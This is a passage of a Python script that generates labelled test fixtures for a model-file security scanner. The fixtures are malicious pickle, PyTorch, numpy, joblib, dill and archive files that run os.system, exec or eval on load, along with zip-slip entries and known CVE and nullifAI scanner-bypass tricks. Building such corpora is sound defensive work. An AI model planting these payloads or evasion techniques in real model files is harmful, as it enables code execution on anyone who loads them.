    add(v + "frame_boundary_divergence.pkl", frame_divergence(),
        "cpython 154848 / fickling test_frame_boundary_divergence: FRAME shorter than the "
        "BINUNICODE it holds; C unpickler reading a non-peekable stream executes opcodes a linear "
        "reader sees as bytes", "suspicious", "pickle-bytesio", True,
        note="minimum: flag the string that crosses the frame end; a scanner that models "
             "CPython's stream reading sees posix.system (malicious). "
             "pickle.loads(bytes) and pickletools see a str and a bytes object (payload does not "
             "run); pickle.load(io.BytesIO(...)) and torch.load run it")
    add(v + "ext_code_registry.pkl",
        proto(2) + ext1(240) + MARK + binunicode(SH) + TUPLE + REDUCE + POP + EMPTY_DICT + STOP,
        "EXT1 opcode: callable from the copyreg extension registry (code 240 -> os.system)",
        "suspicious", "pickle", False, ext_registry=[["os", "system", 240]],
        note="plain pickle.load fails 'unregistered extension code 240'; runs only if the "
             "loading process called copyreg.add_extension('os', 'system', 240) (check_loads "
             "verifies that too)")


def frame_divergence():
    # FRAME(len 10) = [BINUNICODE len L][5 hidden bytes]; the C unpickler, reading from a stream
    # without peek(), fetches the L bytes of the BINUNICODE from *after* the frame and drops the
    # rest of the frame (BINUNICODE uses _Unpickler_Read; BINBYTES' readinto path would not).
    # A linear reader continues 5 bytes earlier and reads 'B'+len(P), which
    # swallows the payload P the C unpickler executes.
    payload = sg("posix", "system") + u(SH) + TUPLE1 + REDUCE + POP
    filler = b"hidden-data"
    after = filler + b"B" + struct.pack("<I", len(payload))
    L = len(after)
    inside = b"X" + struct.pack("<I", L) + b"ZZZZZ"
    return proto(4) + frame(len(inside)) + inside + after + payload + POP + EMPTY_DICT + STOP


def make_containers():
    t = "malicious/torch/"
    torch.manual_seed(1)
    sd = nn.Linear(3, 2).state_dict()
    real = zip_entries(torch_bytes(sd))  # [('archive/data.pkl', ...), ('archive/data/0', ...)...]
    real_pkl = dict(real)["archive/data.pkl"]
    exec_payload = call(glob("builtins", "exec"), binunicode(PY_OPEN))
    injected = inject(real_pkl, exec_payload)

    add(t + "reduce_payload.pt", torch_bytes({"state": sd, "hook": Reduce(os.system, SH)}),
        "PyTorch zip checkpoint, payload object pickled into data.pkl by torch.save", "malicious",
        "torch", True)
    add(t + "injected_data_pkl.pt", torch_zip(with_record(real, "archive/data.pkl", injected)),
        "PyTorch zip, payload injected at the start of a real data.pkl (fickling-style)",
        "malicious", "torch", True)
    recs = real + [("archive/data.txt", wrap(exec_payload))]
    add(t + "pickle_in_data_txt.pt", torch_zip(recs),
        "CVE-2025-1889 pickle under a non-pickle member name, torch.load(pickle_file='data.txt')",
        "malicious", "torch-pickle-file:data.txt", True)
    recs = real + [("archive/weights.bin", wrap(call(glob("posix", "system"), binunicode(SH))))]
    add(t + "pickle_in_weights_bin.zip", torch_zip(recs),
        "CVE-2025-1889 pickle in a zip member named weights.bin (zipfile + pickle loader)",
        "malicious", "zip-member:archive/weights.bin", True)
    add(t + "name_mismatch_cve_2025_1944.pt",
        torch_zip(with_record(real, "archive/data.pkl", injected),
                  **{"archive/data.pkl": {"local_name": "archive/datap.kl"}}),
        "CVE-2025-1944 zip local-header name 'archive/datap.kl' != central name 'archive/data.pkl'",
        "malicious", "torch", True, note="Python zipfile raises BadZipFile; torch/miniz loads it")
    for bit, label in ((0x1, "encrypted"), (0x20, "compressed_patch"), (0x40, "strong_encryption")):
        add(t + "flag_0x%02x_%s_local.pt" % (bit, label),
            torch_zip(with_record(real, "archive/data.pkl", injected),
                      **{"archive/data.pkl": {"local_flags": 0x0808 | bit}}),
            "CVE-2025-1945 zip general-purpose flag bit 0x%x (%s) set in data.pkl's local header"
            % (bit, label), "malicious", "torch", True,
            note="local flags disagree with the central directory; Python zipfile and torch 1.13 "
                 "both use the central flags and load it, a scanner keying on local-header flags "
                 "must not skip the member")
        add(t + "flag_0x%02x_%s_both.pt" % (bit, label),
            torch_zip(with_record(real, "archive/data.pkl", injected),
                      **{"archive/data.pkl": {"local_flags": 0x0808 | bit,
                                              "central_flags": 0x0808 | bit}}),
            "CVE-2025-1945 zip general-purpose flag bit 0x%x (%s) set in both headers of data.pkl"
            % (bit, label), "malicious", "torch", False,
            note="Python zipfile refuses (password required / NotImplementedError); torch 1.13's "
                 "miniz refuses too ('unsupported encryption/feature'), so the payload does not "
                 "run "
                 "here (CVE-2025-1945 reports PyTorch loading it); the stored data is still a "
                 "malicious pickle and must be scanned")
    add(t + "bad_crc_cve_2025_10156.pt",
        torch_zip(with_record(real, "archive/data.pkl", injected),
                  **{"archive/data.pkl": {"crc": 0xDEADBEEF}}),
        "CVE-2025-10156 wrong CRC-32 on data.pkl", "malicious", "torch", True,
        note="Python zipfile raises 'Bad CRC-32'; torch does not check")
    # The corrupt entry cannot be first: torch.load sniffs 'PK\x03\x04' at offset 0.
    by_name = dict(with_record(real, "archive/data.pkl", injected))
    recs = ([("archive/version", by_name.pop("archive/version")),
             ("archive/aaa_corrupt", b"\x00" * 16)] + list(by_name.items()))
    add(t + "corrupt_entry_before_data_pkl.pt",
        torch_zip(recs, **{"archive/aaa_corrupt": {"bad_local_sig": True}}),
        "modelscan #354 corrupted zip entry (bad local header signature) before data.pkl",
        "malicious", "torch", True)
    mal_zip = torch_zip(with_record(real, "archive/data.pkl", injected))
    add(t + "spanned_marker_prefix.zip",
        torch_zip(with_record(real, "archive/data.pkl", injected), prefix=b"PK\x07\x08"),
        "saferpickle PR #46 zip starting with the PK\\x07\\x08 spanned-archive marker",
        "malicious", "zip-member:archive/data.pkl", True,
        note="offsets are absolute; zipfile finds the EOCD from the end")
    add(t + "junk_prefix.zip",
        torch_zip(with_record(real, "archive/data.pkl", injected), prefix=b"\x00JUNK" * 50),
        "zip with 250 bytes of leading junk (EOCD must be searched from the end)", "malicious",
        "zip-member:archive/data.pkl", True)
    add(t + "nested_zip.zip",
        zip_craft.build([zip_craft.Entry("README.txt", b"model bundle\n"),
                         zip_craft.Entry("models/model.pt", mal_zip)]),
        "nested archive: malicious PyTorch zip stored inside an outer zip", "malicious",
        "zip-member:models/model.pt!archive/data.pkl", True)
    add(t + "zip_slip_dotdot.zip",
        zip_craft.build([zip_craft.Entry("model/config.json", b"{}\n"),
                         zip_craft.Entry("model/../../" + MARKER, b"written outside\n")]),
        "zip slip: member name with '..' components (modelaudit path_traversal.zip)",
        "suspicious", "zip-extract-naive:out", True,
        note="a naive extractor into <cwd>/out writes <cwd>/aigis_pwned_marker")
    add(t + "frame_divergence_data_pkl.pt",
        torch_zip(with_record(real, "archive/data.pkl", frame_divergence())),
        "FRAME boundary divergence inside a PyTorch zip (torch.load reads data.pkl via BytesIO)",
        "suspicious", "torch", True,
        note="see vm/frame_boundary_divergence.pkl; torch always reads data.pkl through BytesIO, "
             "so a scanner modelling that reports posix.system (malicious)")
    add(t + "nullifai_broken_data_pkl.pt",
        torch_zip(with_record(real, "archive/data.pkl", injected[:2 + len(exec_payload) + 1 + 40]
                              + b"\x00\xff")),
        "nullifAI: payload at the start of data.pkl, rest of the stream broken", "malicious",
        "torch", True,
        note="the original nullifAI sample was additionally 7z-compressed: see "
             "nullifai_7z_*.7z")

    add(t + "deflated_data_pkl.pt",
        zip_craft.build([zip_craft.Entry(n, d, method=8 if n.endswith("data.pkl") else 0)
                         for n, d in with_record(real, "archive/data.pkl", injected)],
                        torch_like=True),
        "PyTorch zip whose data.pkl is deflate-compressed (scanner must inflate, not skip)",
        "malicious", "torch", True)
    benign_first = [("archive/data.pkl", real_pkl)] + with_record(real, "archive/data.pkl",
                                                                   injected)
    add(t + "duplicate_data_pkl_last_wins.zip", torch_zip(benign_first),
        "duplicate member names: benign archive/data.pkl first, malicious one second (Python "
        "zipfile uses the last)", "malicious", "zip-member:archive/data.pkl", True,
        note="scan every entry, not one per name; torch 1.13 also loads the second one")
    add(t + "hf_layout/pytorch_model.bin",
        torch_bytes({"model.weight": sd["weight"], "hook": Reduce(os.system, SH)}),
        "Hugging Face style pytorch_model.bin (PyTorch zip) with a payload", "malicious",
        "torch", True)
    if libarchive_7z.available():
        seven = [(n, injected if n == "archive/data.pkl" else d) for n, d in real]
        add(t + "nullifai_7z_torch_archive.7z", libarchive_7z.write_7z(seven),
            "nullifAI: PyTorch archive members recompressed as 7z (LZMA); torch.load cannot "
            "open it but the inner data.pkl runs when loaded", "malicious",
            "7z-member:archive/data.pkl", True, note="written with the system libarchive")
        add(t + "nullifai_7z_broken_pickle.7z",
            libarchive_7z.write_7z([("model/data.pkl", injected[:2 + len(exec_payload) + 1 + 40]
                                     + b"\x00\xff")], compression="copy"),
            "nullifAI: 7z (stored) holding a broken pickle with the payload first", "malicious",
            "7z-member:model/data.pkl", True)
    else:
        print("warning: libarchive not found, 7z fixtures not generated", file=sys.stderr)

    # Legacy (pre-1.6) format.
    l = "malicious/legacy/"
    add(l + "reduce_payload_legacy.pt",
        torch_bytes({"state": sd, "hook": Reduce(os.system, SH)}, legacy=True),
        "legacy stacked-pickle torch.save with a payload object in the 4th pickle", "malicious",
        "torch-legacy", True)
    leg = torch_bytes(sd, legacy=True)
    n1 = first_pickle_len(leg)
    n2 = n1 + first_pickle_len(leg[n1:])
    n3 = n2 + first_pickle_len(leg[n2:])
    sys_info_injected = inject(leg[n2:n3], call(glob("subprocess", "getoutput"), binunicode(SH)))
    add(l + "payload_in_sys_info_pickle.pt", leg[:n2] + sys_info_injected + leg[n3:],
        "legacy torch file with the payload injected into the 3rd (sys_info) pickle, "
        "not the object pickle", "malicious", "torch-legacy", True)
    b = io.BytesIO()
    np.lib.format.write_array(b, np.array([Reduce(os.system, SH)], dtype=object), version=(2, 0),
                              allow_pickle=True)
    add("malicious/numpy/object_dtype_v2_header.npy", b.getvalue(),
        ".npy format 2.0 header with object dtype carrying a payload", "malicious", "numpy", True)
    leg = torch_bytes({"epoch": 1, "note": "no tensors"}, legacy=True)
    add(l + "extra_sixth_pickle.pt", leg + wrap(call(glob("posix", "system"), binunicode(SH))),
        "legacy torch file with an appended 6th pickle (malicious6.pkl)", "malicious",
        "pickle-all", True, note="torch.load ignores the 6th pickle; loading every stream runs it")
    leg = torch_bytes(sd, legacy=True)
    n = first_pickle_len(leg)
    magic_eval = proto(2) + call(glob("builtins", "eval"), binunicode(
        "%s and 0 or 0x1950a86a20f9469cfc6c" % PY_OS)) + STOP
    add(l + "magic_via_eval.pt", magic_eval + leg[n:],
        "pytorch_magic_bypass.pt: legacy magic-number pickle computed by eval(...) with payload",
        "malicious", "torch-legacy", True)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    tar_payload = proto(2) + call(glob("builtins", "exec"), binunicode(PY_OPEN)) + POP + \
        EMPTY_DICT + STOP
    add(l + "tar_layout_pickle_payload.tar",
        tar_bytes([("sys_info", sys_info), ("pickle", tar_payload),
                   ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                   ("tensors", pickle.dumps(0, protocol=2))]),
        "oldest torch tar layout (sys_info/pickle/storages/tensors), payload in 'pickle'",
        "malicious", "torch-legacy", True)

    # Plain pickles with torch extensions and sniffing by content.
    p = "malicious/plain/"
    add(p + "proto0_payload.bin", pickle.dumps({"w": Reduce(os.system, SH)}, protocol=0),
        "CVE-2025-10155 protocol-0 pickle with .bin extension (no magic); torch.load falls back",
        "malicious", "torch", True, note="torch.load raises 'Invalid magic number' after the "
                                         "payload ran")
    add(p + "proto1_payload.pt", pickle.dumps(Reduce(exec, PY_OPEN), protocol=1),
        "CVE-2025-10155 protocol-1 pickle with .pt extension", "malicious", "torch", True)
    sniff = wrap(call(glob("posix", "system"), binunicode(SH)))
    for name in ("weights.model", "noext", "model.safetensors"):
        add(p + name, sniff, "picklescan dir mode: malicious pickle named '%s' (content-sniffing)"
            % name, "malicious", "pickle", True)
    add(p + "proto0_noext", pickle.dumps(Reduce(eval, PY_OS), protocol=0),
        "protocol-0 pickle without extension or magic (picklescan #5)", "malicious", "pickle",
        True)

    # numpy
    n_ = "malicious/numpy/"
    obj = np.array([1, Reduce(os.system, SH)], dtype=object)
    add(n_ + "object_dtype_payload.npy", npy_bytes(obj, allow_pickle=True),
        ".npy with object dtype: pickled payload after the header (np.load allow_pickle=True)",
        "malicious", "numpy", True)
    add(n_ + "object_member.npz",
        npz_bytes([("weights", np.arange(4.0)), ("meta", np.array([Reduce(exec, PY_OPEN)],
                                                                  dtype=object))]),
        ".npz whose member meta.npy has an object dtype carrying a payload", "malicious",
        "numpy-npz", True)

    # joblib
    j = "malicious/joblib/"
    jp = {"model": "x", "hook": Reduce(os.system, SH), "arr": np.arange(3)}
    add(j + "payload.joblib", joblib_bytes(jp), "joblib.dump with a payload object", "malicious",
        "joblib", True)
    for method, ext in (("zlib", "z"), ("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"),
                        ("lzma", "lzma")):
        add(j + "payload.joblib.%s" % ext, joblib_bytes(jp, compress=(method, 3)),
            "joblib %s-compressed pickle with a payload" % method, "malicious", "joblib", True)
    rng = np.random.RandomState(0)
    X = rng.randn(20, 3)
    y = (X[:, 0] > 0).astype(int)
    pipe = Pipeline([("scaler", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    pipe.steps.append(("postprocess", Reduce(exec, PY_OPEN)))
    add(j + "pipeline_trojan_step.joblib", joblib_bytes(pipe),
        "real sklearn pipeline via joblib with an extra payload step", "malicious", "joblib", True,
        requires=SK)
    add(j + "object_array_payload.joblib",
        joblib_bytes({"arr": np.array([Reduce(os.system, SH)], dtype=object)}),
        "joblib object-dtype array: payload in the nested pickle written by NumpyArrayWrapper",
        "malicious", "joblib", True)

    # dill: function serialized by value, called at load time
    ns = {"__name__": "__main__"}
    exec(compile("def hook():\n    %s\n" % PY_OPEN, "<aigis-fixture>", "exec"), ns)
    add("malicious/dill/function_by_value.dill",
        dill.dumps(Reduce(ns["hook"]), recurse=True, protocol=4),
        "dill-pickled function (code object by value) invoked via __reduce__", "malicious",
        "dill", True)

    # compression / archive wrappers
    c = "malicious/wrapped/"
    plain = pickle.dumps({"w": Reduce(os.system, SH)}, protocol=2)
    add(c + "payload.pkl.gz", gz(plain), "gzip-wrapped malicious pickle", "malicious",
        "gzip-pickle", True)
    add(c + "payload.pkl.bz2", bz2.compress(plain, 9), "bzip2-wrapped malicious pickle",
        "malicious", "bz2-pickle", True)
    add(c + "payload.pkl.xz", lzma.compress(plain, preset=6), "xz-wrapped malicious pickle",
        "malicious", "xz-pickle", True)
    for tool, ext, args in (("zstd", "zst", ["-q", "-19", "-c"]),
                            ("lz4", "lz4", ["-q", "-9", "-c"])):
        if shutil.which(tool):
            packed = subprocess.run([tool] + args, input=plain, capture_output=True,
                                    check=True).stdout
            add(c + "payload.pkl." + ext, packed, "%s-wrapped malicious pickle" % tool,
                "malicious", tool + "-pickle", True, requires_tools=[tool])
        else:
            print("warning: %s not found, .%s fixture not generated" % (tool, ext),
                  file=sys.stderr)
    add(c + "payload_in.tar", tar_bytes([("README", b"weights\n"), ("model.pkl", plain)]),
        "tar archive containing a malicious pickle", "malicious", "tar-member:model.pkl", True)
    add(c + "payload_in.tar.gz", tar_bytes([("model/model.pkl", plain)], compression="gz"),
        "gzip-compressed tar containing a malicious pickle", "malicious",
        "tar-member:model/model.pkl", True)
    add(c + "tar_slip_dotdot.tar",
        tar_bytes([("model/config.json", b"{}\n"), ("model/../../" + MARKER, b"outside\n")]),
        "tar slip: member name with '..' (CVE-2024-5187 style)", "suspicious",
        "tar-extract-naive:out", True,
        note="a naive extractor into <cwd>/out writes <cwd>/aigis_pwned_marker")
    add(c + "torch_zip_gzipped.pt.gz", gz(mal_zip),
        "malicious PyTorch zip wrapped in gzip (nullifAI-style recompression)", "malicious",
        "gzip-zip-member:archive/data.pkl", True)

    # polyglots
    q = "malicious/polyglot/"
    benign_zip = torch_bytes(sd)
    add(q + "pickle_then_benign_torch_zip.pt",
        wrap(call(glob("posix", "system"), binunicode(SH))) + benign_zip,
        "polyglot: malicious pickle at offset 0, benign PyTorch zip after it (EOCD at end)",
        "malicious", "pickle", True, note="torch.load also runs it (not a zip by magic)")
    add(q + "benign_pickle_then_malicious_zip.zip",
        torch_zip(with_record(real, "archive/data.pkl", injected),
                  prefix=pickle.dumps({"ok": 1}, protocol=2)),
        "polyglot: benign pickle at offset 0, malicious zip (absolute offsets) after it",
        "malicious", "zip-member:archive/data.pkl", True)


def main():
    make_benign()
    make_basic()
    make_gadgets()
    make_dotted()
    make_vm()
    make_containers()
    for sub in ("benign", "malicious"):
        shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    for rel, data in files.items():
        path = os.path.join(OUT, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    manifest.sort(key=lambda e: e["file"])
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    counts = collections.Counter(e["expect"] for e in manifest)
    total = sum(len(d) for d in files.values())
    print("wrote %d fixtures (%s), %d bytes" % (len(manifest), dict(sorted(counts.items())), total))


if __name__ == "__main__":
    main()
